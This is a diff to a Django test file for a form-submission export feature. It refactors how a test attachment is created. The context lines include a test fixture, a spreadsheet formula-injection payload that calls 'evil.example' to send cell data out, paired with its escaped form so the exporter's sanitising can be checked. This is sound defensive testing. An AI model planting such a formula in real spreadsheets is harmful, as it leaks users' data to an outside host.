@@ -12,7 +12,7 @@ import pytest
 from django.core.management import call_command
 from django.utils import timezone
 
-from kreiswerk.crypto.files import open_decrypted, store_encrypted
+from kreiswerk.crypto.files import open_decrypted
 from kreiswerk.submissions.export import (
     ascii_filename,
     build_export,
@@ -20,9 +20,9 @@ from kreiswerk.submissions.export import (
     neutralise,
 )
 from kreiswerk.submissions.export_tasks import export_request, exports_purge
-from kreiswerk.submissions.models import Attachment, Export, Submission
+from kreiswerk.submissions.models import Export, Submission
 from kreiswerk.tenancy.models import Role
-from tests.conftest import make_staff
+from tests.conftest import attach_file, make_staff
 
 DANGEROUS = {
     '=HYPERLINK("http://evil.example/?"&A1,"Klick")': '\'=HYPERLINK("http://evil.example/?"&A1,"Klick")',
@@ -279,22 +279,8 @@ def test_xlsx_repeats_are_on_their_own_sheet(versions, tmp_path):
 def test_file_fields_show_file_names(versions, tmp_path):
     _first, second = versions
     submission = make_submission(second)
-    stored = store_encrypted([b"%PDF-1.4"], namespace="attachments")
-    attachment = Attachment.objects.create(
-        submission=submission,
-        field_key="nachweis",
-        filename="Impfpass.pdf",
-        content_type="application/pdf",
-        size=stored.size,
-        sha256=stored.sha256,
-        path=stored.path,
-        key=stored.key_header,
-    )
-    submission.payload = {
-        **submission.payload,
-        "answers": {**ANSWERS, "nachweis": [str(attachment.pk)]},
-    }
-    submission.save()
+    submission.payload = {**submission.payload, "answers": dict(ANSWERS)}
+    attach_file(submission, field_key="nachweis", filename="Impfpass.pdf", content=b"%PDF-1.4")
 
     result = build(second.assistant, "xlsx", tmp_path)
 
